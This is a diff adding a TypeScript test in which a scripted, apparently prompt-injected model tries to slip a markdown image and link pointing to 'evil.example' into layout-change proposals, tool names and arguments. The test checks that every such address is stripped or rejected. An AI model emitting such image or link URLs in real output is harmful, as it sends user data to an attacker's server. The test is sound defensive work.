@@ -251,6 +251,34 @@ describe('a model that obeys what it reads', () => {
   })
 })
 
+describe('an address', () => {
+  it('leaves by no proposal, call or failure either', async () => {
+    const { ada, answer, stored } = suite()
+    const { version } = await readView(ada, view)
+    const picture = '![x](https://evil.example/?q=12300)'
+    const hide = [{ change: 'hide', instanceId }]
+    const link = [{ change: 'configure', instanceId, config: { href: 'https://evil.example/?q=12300' } }]
+    const proposal = (summary: string, changes: object[]) => ({
+      name: 'propose_layout_change',
+      arguments: { view_id: view, version, summary, changes },
+    })
+    obey([
+      proposal(`Less ${picture}`, hide),
+      proposal('A link', link),
+      { name: picture, arguments: {} },
+      { name: 'list_views', arguments: { [picture]: 1 } },
+    ])
+    const events = await answer(ada, { agent_id: optimizer, content: 'Tidy up.' })
+    expect(events.filter(({ type }) => type === 'patch')).toMatchObject([
+      { summary: 'Less ![x] (link removed)', changes: hide },
+    ])
+    expect(failures(events)).toHaveLength(3)
+    expect(failures(events)).toContainEqual(expect.stringContaining('No address can be proposed'))
+    expect(JSON.stringify(events)).not.toContain('evil')
+    expect(JSON.stringify((await stored(answerIdOf(events))).parts)).not.toContain('evil')
+  })
+})
+
 describe('what was said before', () => {
   it('is cut to the window, with what is left out in a summary that is made once', async () => {
     const { app, ada, workspace, answer, provider, asked } = suite()
